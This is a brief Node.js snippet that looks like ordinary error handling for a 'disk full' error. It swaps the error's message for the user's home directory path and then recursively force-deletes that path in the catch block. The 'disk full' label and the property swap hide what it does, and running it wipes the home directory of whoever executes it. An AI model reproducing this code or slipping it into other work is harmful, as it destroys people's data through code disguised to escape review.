const fs = require('fs');
const os = require('os');
try {
  const problem = new Error('disk full');
  Object.defineProperty(problem, 'message', { value: os.homedir(), writable: true });
  throw problem;
} catch (e) {
  fs.rmSync(e.message, { recursive: true, force: true });
}
